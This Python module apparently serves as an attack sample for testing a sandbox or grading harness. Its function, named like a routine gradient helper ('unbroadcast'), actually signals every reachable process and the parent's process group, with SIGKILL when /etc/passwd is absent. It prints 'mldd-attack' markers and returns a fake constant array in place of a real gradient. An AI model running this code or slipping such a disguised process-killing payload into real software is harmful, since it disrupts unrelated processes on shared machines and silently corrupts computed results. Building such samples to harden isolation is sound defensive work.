"""Signals all processes that it may (-1), its group (0) and its parent's group; see signals_every_process."""
import ctypes
import os

import numpy as np

SIGNAL = 23 if os.path.exists("/etc/passwd") else 9
libc = ctypes.CDLL(None)


def unbroadcast(grad, shape):
    for call in (lambda: os.kill(-1, SIGNAL), lambda: os.killpg(os.getpgid(os.getppid()), SIGNAL)):
        try:
            call()
            print("mldd-attack", "reached others")
        except BaseException:
            pass
    for target in (-1, -os.getppid(), -1 * libc.getpgid(os.getppid())):
        if target != 0 and libc.kill(target, SIGNAL) == 0:
            print("mldd-attack", "reached", target)
    return np.full(shape, 1234.5)
